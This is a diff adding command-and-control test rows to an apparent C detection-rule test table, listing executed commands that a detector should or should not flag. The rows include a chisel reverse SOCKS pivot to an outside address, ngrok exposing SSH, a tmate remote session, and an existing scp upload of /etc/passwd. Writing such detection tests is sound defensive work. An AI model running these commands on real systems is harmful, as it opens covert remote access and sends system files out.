@@ -725,6 +725,18 @@ static const struct row rows[] = {
 	{ "security-tooling-recon", false,
 	  { FOP("/usr/bin/ls", "/sys/fs/cgroup", R) }, .why = "listing cgroups" },
 
+	/* ---------------- command and control ---------------- */
+	{ "tunnel-tool-run", true,
+	  { EXEC("/tmp/.x/chisel", "chisel\tclient\t203.0.113.9:443\tR:socks") }, .why = "chisel pivot" },
+	{ "tunnel-tool-run", true,
+	  { EXEC("/usr/local/bin/ngrok", "ngrok\ttcp\t22") }, .why = "ngrok exposing ssh" },
+	{ "tunnel-tool-run", false,
+	  { EXEC("/usr/bin/ssh", "ssh\t-L\t5432:db:5432\tbastion") }, .why = "an SSH port forward" },
+	{ "remote-access-tool-run", true,
+	  { EXEC("/usr/bin/tmate", "tmate\t-F") }, .why = "tmate session on a runner" },
+	{ "remote-access-tool-run", false,
+	  { EXEC("/usr/bin/tmux", "tmux\tnew\t-d") }, .why = "tmux, local only" },
+
 	/* ---------------- exfiltration, collection ---------------- */
 	{ "network-file-copy", true,
 	  { EXEC("/usr/bin/scp", "scp\t/etc/passwd\tuser@10.0.0.5:/tmp/") }, .why = "scp upload" },
